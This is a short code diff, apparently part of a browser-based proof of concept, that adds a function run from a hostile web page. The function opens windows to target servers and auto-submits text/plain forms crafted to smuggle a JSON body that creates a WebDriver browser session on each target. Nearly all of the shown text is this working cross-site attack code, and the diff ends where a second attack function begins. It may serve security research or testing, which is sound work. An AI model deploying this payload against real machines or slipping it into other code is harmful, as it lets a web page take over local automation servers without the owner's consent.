@@ -1,3 +1,15 @@
+// Windows of its own, each at a server it should not reach, and each made to ask for a session: their texts are read from outside.
+globalThis.openWindows = (targets) => {
+  for (const target of targets) {
+    open(`http://${target}/status`);
+    const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action: `http://${target}/session`, target: '_blank' });
+    const input = Object.assign(document.createElement('input'), { name: '{"capabilities":{"alwaysMatch":{"browserName":"chrome"}},"x":"', value: '"}' });
+    form.append(input);
+    document.body.append(form);
+    form.submit();
+  }
+};
+
 // What a page can do to reach a server that it should not: run in the hostile page, by its own scripts.
 globalThis.attack = async (targets, sessionId) => {
   const results = [];
